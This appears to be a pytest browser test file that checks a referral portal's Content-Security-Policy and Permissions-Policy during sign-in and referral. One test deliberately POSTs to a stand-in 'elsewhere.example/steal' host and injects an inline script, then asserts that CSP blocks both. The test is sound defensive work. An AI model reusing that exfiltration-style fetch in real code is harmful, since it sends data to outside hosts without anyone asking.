"""The portal's Content-Security-Policy and Permissions-Policy hold in the browser: the whole
journey runs without one violation, and what the policy forbids is blocked."""

from __future__ import annotations

from typing import Any

import pytest
from portal_driver import Person, Portal, heading, make_referral, open_portal, sign_in

pytestmark = pytest.mark.browser


def test_a_referral_is_made_without_one_policy_violation(page: Any, portal: Portal) -> None:
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    response = open_portal(page, portal)
    assert "connect-src 'self';" in response.headers["content-security-policy"]
    assert "camera=()" in response.headers["permissions-policy"]
    page.evaluate(
        """() => { window.violations = [];
          document.addEventListener('securitypolicyviolation',
            (e) => window.violations.push(e.violatedDirective + ' ' + e.blockedURI)); }"""
    )
    sign_in(page)
    make_referral(page, Person(given_name="Pat", family_name="Policy"))
    heading(page, "Referral sent")
    assert page.evaluate("window.violations") == []
    assert not [c for c in complaints if "Content Security Policy" in c]


def test_what_the_policy_forbids_is_blocked(page: Any, portal: Portal) -> None:
    open_portal(page, portal)
    blocked = page.evaluate(
        """async () => {
          const seen = [];
          document.addEventListener('securitypolicyviolation',
            (e) => seen.push(e.effectiveDirective));
          try { await fetch('https://elsewhere.example/steal', { method: 'POST', body: 'x' }); }
          catch (e) { /* refused before it leaves */ }
          const script = document.createElement('script');
          script.textContent = 'window.injected = true';
          document.head.appendChild(script);
          await new Promise((resolve) => setTimeout(resolve, 200));
          return { seen, injected: window.injected === true,
                   camera: document.featurePolicy ?
                     document.featurePolicy.allowsFeature('camera') : false };
        }"""
    )
    assert "connect-src" in blocked["seen"]
    assert "script-src-elem" in blocked["seen"] or "script-src" in blocked["seen"]
    assert blocked["injected"] is False
    assert blocked["camera"] is False
